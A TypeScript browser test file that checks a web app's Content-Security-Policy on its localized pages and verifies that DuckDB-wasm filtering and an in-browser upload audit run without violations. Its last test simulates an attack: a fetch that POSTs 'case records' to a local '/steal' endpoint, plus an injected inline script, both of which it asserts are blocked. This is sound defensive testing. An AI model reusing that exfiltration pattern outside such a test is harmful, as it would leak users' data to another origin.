/**
 * The Content-Security-Policy: every page declares it and breaks nothing under it (0 violations
 * while the filters run DuckDB-wasm, a drop on /upload runs ingest, release and the HiGHS audit),
 * and it does its job: an injected script does not run and nothing reaches another origin.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { connectBrowser, waitReady } from './harness';
import { inject } from 'vitest';

let browser: Browser;
beforeAll(async () => (browser = await connectBrowser()));
afterAll(() => browser?.close());

interface Violation {
	directive: string;
	blocked: string;
}

/** Records every violation the page reports, from the first byte on, and what the console says of CSP. */
async function watched(path: string) {
	const context = await browser.newContext();
	await context.addInitScript(() => {
		const seen: { directive: string; blocked: string }[] = [];
		(window as unknown as { __violations: typeof seen }).__violations = seen;
		document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
	});
	const page = await context.newPage();
	const console: string[] = [];
	page.on('console', (m) => /Content.Security.Policy/i.test(m.text()) && console.push(m.text()));
	page.on('close', () => void context.close().catch(() => {}));
	const response = await page.goto(new URL(path, inject('baseURL')).href);
	return { page, response, console };
}

/** Each violation once: the <meta> policy and the header policy both report what both forbid. */
const violations = (page: Page) =>
	page.evaluate(() => [...new Set((window as unknown as { __violations: Violation[] }).__violations.map((v) => JSON.stringify(v)))].map((v) => JSON.parse(v) as Violation));

const PAGES = ['', 'report/', 'upload/', 'methodology/'].flatMap((p) => ['/', '/ru/', '/ky/'].map((lang) => lang + p));

describe('Content-Security-Policy', () => {
	it.each(PAGES)('%s declares the policy, with its header, and runs with no violation', async (path) => {
		const { page, response, console } = await watched(path);
		await waitReady(page);
		const meta = await page.getAttribute('meta[http-equiv="content-security-policy"]', 'content');
		expect(meta).toMatch(/default-src 'self'/);
		expect(meta).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+;/);
		expect(meta).not.toMatch(/script-src[^;]*unsafe-inline/);
		expect(response?.headers()['content-security-policy']).toMatch(/frame-ancestors 'none'/);
		expect(response?.headers()['x-content-type-options']).toBe('nosniff');
		expect(await violations(page)).toEqual([]);
		expect(console).toEqual([]);
		await page.close();
	});

	it('lets the filters on / run DuckDB-wasm, with no violation', async () => {
		const { page, console } = await watched('/');
		await waitReady(page);
		const before = await page.getAttribute('[data-kpi="beneficiaries"]', 'data-value');
		// Two changes away from the default: answered by DuckDB-wasm, not by a prepared view.
		await page.selectOption('select[name="to"]', '2022');
		await waitReady(page);
		await page.selectOption('select[name="from"]', '2021');
		await waitReady(page);
		await expect.poll(() => page.getAttribute('[data-kpi="beneficiaries"]', 'data-value')).not.toBe(before);
		expect(await page.evaluate(() => performance.getEntriesByType('resource').some((e) => e.name.endsWith('.wasm')))).toBe(true);
		expect(await violations(page)).toEqual([]);
		expect(console).toEqual([]);
		await page.close();
	});

	it('lets /upload/ read an export, release and audit it in the browser, with no violation', async () => {
		const { page, console } = await watched('/upload/');
		await waitReady(page);
		await page.setInputFiles('[data-testid="drop-zone"] input[type="file"]', { name: 'sample.csv', mimeType: 'text/csv', buffer: readFileSync('data/sample-export.csv') });
		// The download is offered once the release and its audit (HiGHS, WebAssembly) have run.
		await page.waitForSelector('[data-testid="download-release"]', { timeout: 60_000 });
		await waitReady(page);
		expect(Number(await page.getAttribute('[data-testid="ingest-summary"]', 'data-rows-loaded'))).toBeGreaterThan(3000);
		expect(await violations(page)).toEqual([]);
		expect(console).toEqual([]);
		await page.close();
	});

	describe('against a script that got into the page', () => {
		let elsewhere: Server;
		let hits = 0;
		let port = 0;
		beforeAll(async () => {
			elsewhere = createServer((_, res) => (hits++, res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok')));
			await new Promise<void>((go) => elsewhere.listen(0, '127.0.0.1', go));
			port = (elsewhere.address() as { port: number }).port;
		});
		afterAll(() => new Promise<void>((go) => elsewhere.close(() => go())));

		it('blocks a request to another origin (another port of this machine), and an inline script', async () => {
			const { page } = await watched('/upload/');
			await waitReady(page);
			const outcome = await page.evaluate(
				(url) =>
					fetch(url, { method: 'POST', body: 'case records' }).then(
						() => 'sent',
						() => 'blocked'
					),
				`http://127.0.0.1:${port}/steal`
			);
			expect(outcome).toBe('blocked');
			// An injected <script> (as an XSS would write it) does not run.
			await page.evaluate(() => {
				const script = document.createElement('script');
				script.textContent = 'window.__ran = true';
				document.body.append(script);
			});
			expect(await page.evaluate(() => (window as unknown as { __ran?: boolean }).__ran ?? false)).toBe(false);
			await expect.poll(() => violations(page)).toEqual([
				{ directive: 'connect-src', blocked: `http://127.0.0.1:${port}/steal` },
				{ directive: 'script-src-elem', blocked: 'inline' }
			]);
			expect(hits).toBe(0);
			await page.close();
		});
	});
});
